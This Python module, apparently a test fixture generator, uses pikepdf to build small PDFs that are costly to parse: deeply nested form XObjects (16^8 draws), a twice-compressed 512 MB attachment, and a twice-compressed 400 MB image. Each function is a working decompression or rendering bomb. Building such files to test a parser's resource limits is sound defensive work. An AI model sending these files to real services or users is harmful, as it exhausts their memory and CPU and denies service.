"""Hostile PDFs built with pikepdf (qpdf): small files that are expensive to read.

* :func:`nested_forms` -- form XObjects drawing the next one 16 times, 8 levels deep (16^8 draws);
* :func:`attachment_bomb` -- an attached file of hundreds of MB of zeros, compressed twice;
* :func:`image_bomb` -- a 20000 x 20000 greyscale image (400 MB decoded), compressed twice, drawn
  small on the page.
"""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name


def _zeros_deflated(total: int) -> bytes:
    """`total` zero bytes, deflated, without ever holding them."""
    comp = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    parts = [comp.compress(block) for _ in range(total // len(block))]
    parts.append(comp.flush())
    return b"".join(parts)


def _twice_deflated(total: int) -> bytes:
    return zlib.compress(_zeros_deflated(total), 9)


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def _page(pdf: pikepdf.Pdf, content: bytes, resources: Dictionary) -> None:
    page = pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Resources=resources,
                                   Contents=pikepdf.Stream(pdf, content)))
    pdf.pages.append(page)


def nested_forms(levels: int = 8, fanout: int = 16) -> bytes:
    pdf = pikepdf.new()
    form = pikepdf.Stream(pdf, b"0 0 m 595 842 l S 0 0 10 10 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
    for _ in range(levels):
        outer = pikepdf.Stream(pdf, b"/F Do " * fanout)
        outer.Type, outer.Subtype, outer.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        outer.Resources = Dictionary(XObject=Dictionary(F=pdf.make_indirect(form)))
        form = outer
    _page(pdf, b"/F Do", Dictionary(XObject=Dictionary(F=pdf.make_indirect(form))))
    return _save(pdf)


def attachment_bomb(decoded_bytes: int = 512 * 1024 * 1024) -> bytes:
    pdf = pikepdf.new()
    _page(pdf, b"", Dictionary())
    stream = pikepdf.Stream(pdf, b"")
    stream.write(_twice_deflated(decoded_bytes), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    stream.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=pikepdf.String("certificate.hpf1"),
                      UF=pikepdf.String("certificate.hpf1"), EF=Dictionary(F=pdf.make_indirect(stream)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("certificate.hpf1"),
                                                                       pdf.make_indirect(spec)])))
    return _save(pdf)


def image_bomb(side: int = 20000) -> bytes:
    pdf = pikepdf.new()
    image = pikepdf.Stream(pdf, b"")
    image.write(_twice_deflated(side * side), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.ColorSpace, image.BitsPerComponent = side, side, Name.DeviceGray, 8
    _page(pdf, b"q 200 0 0 200 100 100 cm /Im Do Q", Dictionary(XObject=Dictionary(Im=pdf.make_indirect(image))))
    return _save(pdf)
